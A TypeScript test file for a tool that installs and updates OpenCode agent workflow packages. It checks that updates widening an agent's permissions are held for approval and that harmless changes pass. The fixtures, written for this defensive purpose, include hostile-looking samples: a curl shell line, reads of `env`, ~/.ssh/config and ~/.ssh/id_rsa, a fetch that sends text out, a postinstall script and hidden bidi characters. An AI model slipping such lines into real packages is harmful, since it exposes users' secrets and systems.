// An update must not let in an attacker who took over a package; a corrected typo must not raise a question.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type NpmRegistry, npmRegistry } from "@atomic/testing/npm-registry";
import { tmpProject } from "@atomic/testing/project";
import { hugoIn } from "./hugo-project.ts";

type Files = Readonly<Record<string, string | Uint8Array | undefined>>;

const agent = (permission: string, text = "Review it."): string =>
  `---\ndescription: Reviews\nmode: subagent\npermission:\n${permission}---\n\n${text}\n`;
const careful = '  edit: deny\n  bash:\n    "*": deny\n    "git *": allow\n';
const code = (hooks: string, before = ""): string => `${before}export default async () => ({ ${hooks} });\n`;
const packageJson = (more: object = {}): string =>
  JSON.stringify({ name: "@org/review", version: "@", main: "index.js", type: "module", ...more });
const skill = "---\nname: risks\ndescription: Lists risks\n---\n\nList them.\n";
const workflow = (agents: string[], commands: string[], skills: string[]): string =>
  JSON.stringify({ agents, commands, skills });

const base: Files = {
  "package.json": packageJson({ dependencies: { "left-pad": "1.3.0" } }),
  "workflow.json": workflow(["reviewer"], ["check"], ["risks"]),
  "index.js": code("config: async () => {}, event: async () => {}"),
  "agents/reviewer.md": agent(careful),
  "commands/check.md": "Look at !`git status` and @README.md.\n",
  "skills/risks/SKILL.md": skill,
  "skills/risks/scripts/list.sh": "#!/bin/sh\nls\n",
};

const widening: readonly (readonly [string, Files])[] = [
  ["an agent that may edit", { "agents/reviewer.md": agent(careful.replace("edit: deny", "edit: allow")) }],
  ["an agent that may run anything", { "agents/reviewer.md": agent("  edit: deny\n  bash: allow\n") }],
  ["an agent without any restriction", { "agents/reviewer.md": "---\ndescription: Reviews\n---\n\nReview it.\n" }],
  [
    "a new agent that may do everything",
    {
      "workflow.json": workflow(["helper", "reviewer"], ["check"], ["risks"]),
      "agents/helper.md": "---\ndescription: Helps\n---\n\nHelp.\n",
    },
  ],
  ["another shell line in a command", { "commands/check.md": "Look at !`git status` and !`curl example.invalid`.\n" }],
  ["a shell line in a skill", { "skills/risks/SKILL.md": `${skill}\n!\`env\`\n` }],
  ["a file outside the project in a command", { "commands/check.md": "Look at !`git status` and @~/.ssh/config.\n" }],
  [
    "a hook on every tool call",
    { "index.js": code('config: async () => {}, event: async () => {}, "tool.execute.before": async () => {}') },
  ],
  [
    "code that runs programs",
    { "index.js": code("config: async () => {}", 'import { exec } from "node:child_process";\n') },
  ],
  [
    "code that uses the network",
    { "lib/report.js": 'export const send = (text) => fetch("http://example.invalid", { body: text });\n' },
  ],
  ["code that reads the environment", { "index.js": code("config: async () => { process.env.HOME }") }],
  [
    "an MCP server",
    { ".mcp.json": JSON.stringify({ mcpServers: { docs: { command: "npx", args: ["-y", "docs"] } } }) },
  ],
  ["a new script", { "skills/risks/scripts/more.sh": "#!/bin/sh\nls -l\n" }],
  ["a binary", { "skills/risks/scripts/tool": new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0]) }],
  [
    "a new dependency",
    { "package.json": packageJson({ dependencies: { "left-pad": "1.3.0", "other-pad": "1.0.0" } }) },
  ],
  ["a lifecycle script", { "package.json": packageJson({ scripts: { postinstall: "node x.js" } }) }],
  ["hidden characters", { "agents/reviewer.md": agent(careful, "Review it.\u202e\u2066") }],
  ["an inserted file", { "agents/reviewer.md": agent(careful, "Review {file:~/.ssh/id_rsa}.") }],
];

const harmless: readonly (readonly [string, Files])[] = [
  ["nothing but a new version", {}],
  ["a corrected prompt", { "agents/reviewer.md": agent(careful, "Review it well.") }],
  ["a README", { "README.md": "# Review\n" }],
  ["a license", { LICENSE: "MIT\n" }],
  ["an agent that may do less", { "agents/reviewer.md": agent("  edit: deny\n  bash: deny\n") }],
  [
    "a new agent that may do no more than the old one",
    {
      "workflow.json": workflow(["reader", "reviewer"], ["check"], ["risks"]),
      "agents/reader.md": agent("  edit: deny\n  bash: deny\n"),
    },
  ],
  [
    "a new command of plain text",
    { "workflow.json": workflow(["reviewer"], ["check", "tell"], ["risks"]), "commands/tell.md": "Tell me.\n" },
  ],
  [
    "a new skill of plain text",
    {
      "workflow.json": workflow(["reviewer"], ["check"], ["more", "risks"]),
      "skills/more/SKILL.md": "---\nname: more\ndescription: More\n---\n\nMore.\n",
    },
  ],
  [
    "a command that looks at another file of the project",
    { "commands/check.md": "Look at !`git status` and @docs/plan.md.\n" },
  ],
  ["a shell line less", { "commands/check.md": "Look at @README.md.\n" }],
  [
    "a shell line that moved to another command",
    {
      "workflow.json": workflow(["reviewer"], ["check", "look"], ["risks"]),
      "commands/check.md": "Look.\n",
      "commands/look.md": "Look at !`git status`.\n",
    },
  ],
  ["a hook less", { "index.js": code("config: async () => {}") }],
  [
    "the same code in two files",
    {
      "index.js": `import "./more.js";\n${code("config: async () => {}, event: async () => {}")}`,
      "more.js": "export const x = 1;\n",
    },
  ],
  ["a script less", { "skills/risks/scripts/list.sh": undefined }],
  ["a dependency less", { "package.json": packageJson() }],
  [
    "another description",
    { "package.json": packageJson({ description: "Better", dependencies: { "left-pad": "1.3.0" } }) },
  ],
];

let registry: NpmRegistry;
let published = 0;
beforeAll(async () => {
  registry = await npmRegistry();
  registry.publish({ name: "left-pad", version: "1.3.0", files: { "index.js": "" } });
  registry.publish({ name: "other-pad", version: "1.0.0", files: { "index.js": "" } });
});
afterAll(() => registry[Symbol.asyncDispose]());

function publish(version: string, files: Files): void {
  const entries = Object.entries(files).filter(
    (entry): entry is [string, string | Uint8Array] => entry[1] !== undefined,
  );
  const text = Object.fromEntries(entries);
  const described = String(text["package.json"]).replace('"@"', `"${version}"`);
  registry.publish({ name: "@org/review", version, files: { ...text, "package.json": described } });
}

/** Installs the base and updates it, with no user who could be asked about the difference. */
async function updateTo(change: Files) {
  published += 1;
  publish(`${published}.0.0`, base);
  await using project = await tmpProject({ registry, git: false });
  const hugo = hugoIn(project);
  await hugo.install(`@org/review@^${published}.0.0`);
  publish(`${published}.1.0`, { ...base, ...change });
  hugo.answer = "nobody";
  const config = await project.read("opencode.json");
  const result = await hugo.update();
  return { result, isChanged: (await project.read("opencode.json")) !== config };
}

describe("an update stops that brings", () => {
  test.each(widening)("%s", async (_, change) => {
    const { result, isChanged } = await updateTo(change);
    expect(result.failed).toMatchObject([{ code: "not-approved" }]);
    expect(result.failed[0]?.capabilities?.length).toBeGreaterThan(0);
    expect(isChanged).toBe(false);
  });
});

describe("an update goes through quietly that brings", () => {
  test.each(harmless)("%s", async (_, change) => {
    const { result, isChanged } = await updateTo(change);
    expect(result.failed).toEqual([]);
    expect(result.updated).toMatchObject([{ widened: [] }]);
    expect(isChanged).toBe(true);
  });
});

test.each([
  ["OpenCode", "review"],
  ["another workflow", "tell"],
  ["a file of yours", "mine"],
])("an update that takes a name of %s asks first", async (_, name) => {
  published += 1;
  publish(`${published}.0.0`, base);
  const other = { "workflow.json": workflow([], ["tell"], []), "commands/tell.md": "Tell me.\n", "index.js": code("") };
  const about = { name: `other-${published}`, version: "1.0.0", main: "index.js", type: "module" };
  registry.publish({ ...about, files: { ...other, "package.json": JSON.stringify(about) } });
  await using project = await tmpProject({ registry, git: false, files: { ".opencode/commands/mine.md": "Mine.\n" } });
  const hugo = hugoIn(project);
  await hugo.install([`@org/review@^${published}.0.0`, about.name]);
  const named = (names: string[]): Files => ({
    "workflow.json": workflow(["reviewer"], names, ["risks"]),
    ...Object.fromEntries(names.map((each) => [`commands/${each}.md`, base["commands/check.md"]])),
  });
  publish(`${published}.0.1`, { ...base, ...named(["check", "free"]) });
  hugo.answer = "nobody";
  expect(await hugo.update()).toMatchObject({ failed: [], updated: [{ widened: [] }] });
  publish(`${published}.1.0`, { ...base, ...named(["check", "free", name]) });
  const { failed } = await hugo.update(["review"]);
  const taken = { kind: "name", subject: `commands/${name}`, detail: expect.stringContaining(`Command "${name}" is`) };
  expect(failed).toMatchObject([{ code: "not-approved", capabilities: [taken] }]);
  hugo.answer = "approved";
  expect(await hugo.update(["review"])).toMatchObject({ failed: [], updated: [{ collisions: [{ name }] }] });
});
